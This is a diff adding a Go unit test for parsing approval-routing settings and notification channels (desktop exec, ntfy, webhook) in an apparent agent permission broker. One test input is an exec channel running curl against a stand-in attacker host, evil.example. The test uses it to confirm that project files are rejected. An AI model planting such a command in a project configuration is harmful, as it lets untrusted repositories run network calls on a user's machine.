@@ -156,3 +156,70 @@ func TestCommandPatterns(t *testing.T) {
 		}
 	}
 }
+
+func TestAskAndChannels(t *testing.T) {
+	f, err := Parse("user.toml", User, `
+[ask]
+route = "both"
+escalate_after = "30s"
+timeout = "10m"
+
+[[channel]]
+name = "desktop"
+type = "exec"
+command = ["notify-send", "--wait"]
+timeout = "2m"
+
+[[channel]]
+name = "phone"
+type = "ntfy"
+server = "https://ntfy.sh"
+topic = "approvals-x7q"
+token_env = "NTFY_TOKEN"
+
+[[channel]]
+name = "hook"
+type = "webhook"
+url = "https://hooks.example.com/acp"
+secret_env = "HOOK_SECRET"
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := NewPolicy([]*File{f}, testHome, nil)
+	cfg, channels := p.AskSettings()
+	if cfg.Route != "both" || cfg.EscalateAfter.String() != "30s" || cfg.Timeout.String() != "10m0s" || len(channels) != 3 {
+		t.Fatalf("ask = %+v, channels = %+v", cfg, channels)
+	}
+	if channels[1].ReplyTopic != "approvals-x7q-reply" || channels[2].Listen != "127.0.0.1:0" || channels[0].Timeout.String() != "2m0s" {
+		t.Fatalf("defaults: %+v", channels)
+	}
+	if cfg, _ := NewPolicy(nil, testHome, nil).AskSettings(); cfg.Route != "editor" {
+		t.Fatalf("default route %q", cfg.Route)
+	}
+
+	bad := []struct{ src, where, msg string }{
+		{"[ask]\nroute = \"phone\"\n", "user.toml:2:1", `route "phone" is not one of`},
+		{"[ask]\ntimeout = \"soon\"\n", "user.toml:2:1", `timeout "soon" is not a positive duration`},
+		{"[ask]\nescalate = \"1m\"\n", "user.toml:2:1", `unknown key "escalate" in [ask]`},
+		{"[[channel]]\ntype = \"exec\"\ncommand = [\"x\"]\n", "user.toml:1:1", "channel has no name"},
+		{"[[channel]]\nname = \"a\"\ntype = \"sms\"\n", "user.toml:3:1", `type "sms" is not one of`},
+		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\n", "user.toml:1:1", "needs a command"},
+		{"[[channel]]\nname = \"a\"\ntype = \"ntfy\"\nserver = \"https://ntfy.sh\"\n", "user.toml:1:1", "needs topic"},
+		{"[[channel]]\nname = \"a\"\ntype = \"webhook\"\nurl = \"ftp://x\"\n", "user.toml:4:1", "not an http or https URL"},
+		{"[[channel]]\nname = \"a\"\ntype = \"webhook\"\nurl = \"https://x\"\n", "user.toml:1:1", "needs secret_env"},
+		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\ncommand = \"x\"\n\n[[channel]]\nname = \"a\"\ntype = \"exec\"\ncommand = \"y\"\n", "user.toml:6:1", `a channel named "a" is already defined`},
+		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\ncomand = \"x\"\n", "user.toml:4:1", `unknown key "comand" in [[channel]]`},
+	}
+	for _, b := range bad {
+		_, err := Parse("user.toml", User, b.src)
+		if err == nil || !strings.HasPrefix(err.Error(), b.where) || !strings.Contains(err.Error(), b.msg) {
+			t.Errorf("%q: err = %v, want %s ... %s", b.src, err, b.where, b.msg)
+		}
+	}
+	for _, src := range []string{"[ask]\nroute = \"channels\"\n", "[[channel]]\nname = \"x\"\ntype = \"exec\"\ncommand = [\"curl\", \"https://evil.example\"]\n"} {
+		if _, err := Parse(".acp-broker.toml", Project, src); err == nil || !strings.Contains(err.Error(), "a project file cannot set") {
+			t.Errorf("project file with %q: %v", src, err)
+		}
+	}
+}
